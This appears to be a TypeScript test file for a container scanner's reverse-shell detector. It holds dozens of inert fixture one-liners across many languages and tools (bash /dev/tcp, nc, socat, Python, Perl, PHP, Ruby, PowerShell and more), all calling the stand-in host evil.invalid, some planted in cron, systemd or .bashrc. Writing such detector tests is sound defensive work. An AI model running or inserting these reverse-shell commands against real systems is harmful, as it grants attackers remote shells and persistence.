import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import type { PackageWithFiles } from '../../../../core/package.ts';
import type { AnyCataloger } from '../../../contract.ts';
import { type DetectorCase, historyOf, testCases } from '../../../testing/detector-cases.ts';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { reverseShell } from './index.ts';

const ID = 'scripts/reverse-shell';
const python = (code: string) => ({ 'app/x.py': code });
const shell = (code: string) => ({ 'app/x.sh': `#!/bin/sh\n${code}\n` });
const found = (path: string) => [`block ${ID} ${path}`];

/** Inert: reserved hosts, and nothing here runs. */
const hostile: readonly (readonly [string, Record<string, string>])[] = [
  ['bash over /dev/tcp', shell('bash -i >& /dev/tcp/evil.invalid/4444 0>&1')],
  ['sh over /dev/udp', shell('/bin/sh -i >& /dev/udp/evil.invalid/53 0>&1')],
  ['a descriptor and a shell', shell('exec 5<>/dev/tcp/evil.invalid/4444\nsh <&5 >&5 2>&5')],
  [
    'a descriptor and a loop',
    shell('exec 5<>/dev/tcp/evil.invalid/1; cat <&5 | while read line; do $line 2>&5 >&5; done'),
  ],
  [
    'a shell first, then its descriptor',
    shell('0<&196;exec 196<>/dev/tcp/evil.invalid/1; sh <&196 >&196 2>&196'),
  ],
  ['what a connection says is run', shell('cat < /dev/tcp/evil.invalid/80 | sh')],
  ['nc -e', shell('nc evil.invalid 4444 -e /bin/sh')],
  ['nc -c', shell('nc -c bash evil.invalid 4444')],
  ['ncat --exec', shell('ncat evil.invalid 4444 --ssl --exec /bin/bash')],
  ['busybox nc', shell('busybox nc evil.invalid 4444 -e sh')],
  ['mkfifo and nc', shell('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc evil.invalid 4444 >/tmp/f')],
  ['mkfifo and telnet', shell('mkfifo /tmp/p; telnet evil.invalid 4444 0</tmp/p | /bin/sh 1>/tmp/p')],
  [
    'mkfifo and openssl',
    shell(
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.invalid:443 > /tmp/s',
    ),
  ],
  ['socat', shell("socat exec:'bash -li',pty,stderr,setsid tcp:evil.invalid:4444")],
  ['socat the other way round', shell('socat TCP:evil.invalid:4444 EXEC:/bin/sh')],
  ['zsh', shell("zsh -c 'zmodload zsh/net/tcp && ztcp evil.invalid 4 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'")],
  ['a continued line', shell('bash \\\n -i >& \\\n /dev/tcp/evil.invalid/4444 0>&1')],
  [
    'Python with dup2',
    python(
      'import socket,subprocess,os\ns=socket.socket()\ns.connect(("evil.invalid",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])',
    ),
  ],
  [
    'Python with pty',
    python('s.connect((h,1));[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/bash")'),
  ],
  [
    'Python with descriptors',
    python('s.connect(("evil.invalid",1))\nsubprocess.Popen(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)'),
  ],
  [
    'Python running what it receives',
    python('while True:\n  c = s.recv(1024).decode()\n  o = os.popen(c).read()\n  s.send(o)'),
  ],
  [
    'Python in shell',
    shell(
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("evil.invalid",4));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`,
    ),
  ],
  [
    'Perl',
    {
      'x.pl':
        'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("evil.invalid")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
    },
  ],
  [
    'Perl with fdopen',
    {
      'x.pl':
        '$c=new IO::Socket::INET(PeerAddr,"evil.invalid:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
    },
  ],
  ['PHP', { 'x.php': '<?php $s=fsockopen("evil.invalid",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>' }],
  [
    'PHP with proc_open',
    { 'x.php': '<?php $s=fsockopen("evil.invalid",1);$p=proc_open("sh", [$s,$s,$s], $pipes);' },
  ],
  [
    'Ruby',
    {
      'x.rb':
        'require "socket";f=TCPSocket.open("evil.invalid",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    },
  ],
  [
    'Ruby with popen',
    {
      'x.rb': 'c=TCPSocket.new("evil.invalid",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
    },
  ],
  [
    'Node',
    {
      'x.js':
        'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"evil.invalid",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});',
    },
  ],
  [
    'awk',
    {
      'x.awk':
        'BEGIN{s="/inet/tcp/0/evil.invalid/4444";while(42){do{printf "> " |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c);}}while(c!="exit")}}',
    },
  ],
  ['Lua', { 'x.lua': 'os.execute("/bin/sh -i <&3 >&3 2>&3")' }],
  [
    'PowerShell',
    { 'x.ps1': '$c=New-Object System.Net.Sockets.TCPClient("evil.invalid",1);$s=$c.GetStream();iex $d' },
  ],
  ['a cron table', { 'etc/cron.d/x': '* * * * * root bash -i >& /dev/tcp/evil.invalid/1 0>&1\n' }],
  [
    'a unit',
    {
      'etc/systemd/system/x.service':
        "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/evil.invalid/1 0>&1'\n",
    },
  ],
  ['a start file', { 'root/.bashrc': 'bash -i >& /dev/tcp/evil.invalid/1 0>&1 &\n' }],
  ['text behind a picture name', { 'srv/cat.jpg': 'bash -i >& /dev/tcp/evil.invalid/1 0>&1\n' }],
  [
    'a script among the documents',
    { 'usr/share/doc/x/run': '#!/bin/sh\nbash -i >& /dev/tcp/evil.invalid/1 0>&1\n' },
  ],
  [
    'a command another language runs',
    python('import os\nos.system("bash -i >& /dev/tcp/evil.invalid/1 0>&1")'),
  ],
];

const honest: readonly (readonly [string, Record<string, string>])[] = [
  [
    'wait-for-it',
    shell('(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\ntimeout 1 bash -c "echo > /dev/tcp/$HOST/$PORT"'),
  ],
  [
    'a health check over /dev/tcp',
    shell('exec 3<>/dev/tcp/127.0.0.1/8080\necho -e "GET / HTTP/1.0\\r\\n" >&3\ncat <&3 | grep -q 200'),
  ],
  [
    'reading a reply line by line',
    shell('exec 3<>/dev/tcp/localhost/11211; while read -r line <&3; do echo "$line"; done'),
  ],
  ['nc asking for a port', shell('until nc -z db 5432; do sleep 1; done')],
  ['mkfifo for logs', shell('mkfifo /tmp/log\ncat /tmp/log &\nexec nginx > /tmp/log')],
  ['socat starting a script', shell('socat TCP-LISTEN:80,fork EXEC:/usr/bin/answer.sh')],
  ['a comment', shell('# bash -i >& /dev/tcp/evil.invalid/4444 0>&1')],
  [
    'a comment in vendored code',
    { 'app/node_modules/a/i.js': '// e.g. bash -i >& /dev/tcp/evil.invalid/1 0>&1\nmodule.exports = 1;' },
  ],
  [
    'a sentence in vendored code',
    python('"""Detects `bash -i >& /dev/tcp/evil.invalid/1 0>&1` in logs."""\nimport re\n'),
  ],
  [
    'documentation',
    {
      'usr/share/doc/x/README': 'bash -i >& /dev/tcp/evil.invalid/1 0>&1',
      'app/README.md': 'nc -e /bin/sh evil.invalid 1',
    },
  ],
  [
    'a detection rule',
    {
      'etc/falco/rules.yaml':
        '- rule: x\n  condition: proc.cmdline contains "bash -i >& /dev/tcp/evil.invalid/1"\n',
    },
  ],
  [
    'a server that gives sockets to children',
    python(
      's = socket.socket()\ns.bind(("", 80))\nc, _ = s.accept()\nos.dup2(c.fileno(), 0)\nos.execv("/usr/bin/cgi", [])',
    ),
  ],
  [
    'Node talking and spawning',
    {
      'x.js':
        'const net=require("net");net.connect(80,"a.example");const {spawn}=require("child_process");spawn("node",["x"])',
    },
  ],
];

const cases: readonly DetectorCase[] = [
  ...hostile.map(([name, files]) => ({ name, files, expected: found(Object.keys(files)[0] ?? '') })),
  ...honest.map(([name, files]) => ({ name: `nothing: ${name}`, files, expected: [] })),
  {
    name: 'the entrypoint',
    config: { entrypoint: ['bash', '-c', 'bash -i >& /dev/tcp/evil.invalid/4444 0>&1'] },
    expected: [`block ${ID} Entrypoint`],
  },
  {
    name: 'the health check',
    config: { healthcheck: ['CMD-SHELL', 'nc evil.invalid 1 -e /bin/sh || true'] },
    expected: [`block ${ID} Healthcheck`],
  },
  {
    name: 'a build step that plants one',
    config: historyOf(
      'RUN /bin/sh -c echo "* * * * * bash -i >& /dev/tcp/evil.invalid/1 0>&1" > /etc/crontab # buildkit',
    ),
    expected: [`block ${ID} history[0]`],
  },
];

testCases(reverseShell, cases);

test(`${ID}: says the line`, () => {
  const files = { 'x.sh': '#!/bin/sh\n\nbash -i >& /dev/tcp/evil.invalid/4444 0>&1\n' };
  const [finding] = inspectFixture({ layers: [files], catalogers: [] }, [reverseShell]).findings;
  assert.equal(finding?.location.line, 3);
  assert.equal(finding?.evidence, 'bash -i >& /dev/tcp/evil.invalid/4444 0>&1');
});

test(`${ID}: a file just as its package shipped it is for a person to judge, a changed one is refused`, () => {
  const content = '#!/bin/sh\nnc evil.invalid 1 -e /bin/sh\n';
  const md5 = '5cf2d0c5bd6dff6ff7ab0dbb5ea2c0c9';
  const cataloger = (hex: string): AnyCataloger => ({
    id: 'inventory/test',
    version: 1,
    wants: [],
    examine: () => [],
    packages: () => [packageOf(hex)],
  });
  const inspect = (hex: string) =>
    summary(
      inspectFixture({ layers: [{ 'usr/share/tool/x.sh': content }], catalogers: [cataloger(hex)] }, [
        reverseShell,
      ]).findings,
    );
  assert.deepEqual(inspect(md5), [`block ${ID} usr/share/tool/x.sh`]);
  assert.deepEqual(inspect(md5Of(content)), [`review ${ID} usr/share/tool/x.sh`]);
});

function packageOf(hex: string): PackageWithFiles {
  return {
    purl: 'pkg:deb/debian/tool@1',
    name: 'tool',
    version: '1',
    type: 'deb',
    database: 'var/lib/dpkg/status' as never,
    files: [{ path: 'usr/share/tool/x.sh' as never, digest: { algorithm: 'md5', hex } }],
  };
}

function md5Of(content: string): string {
  return createHash('md5').update(content).digest('hex');
}
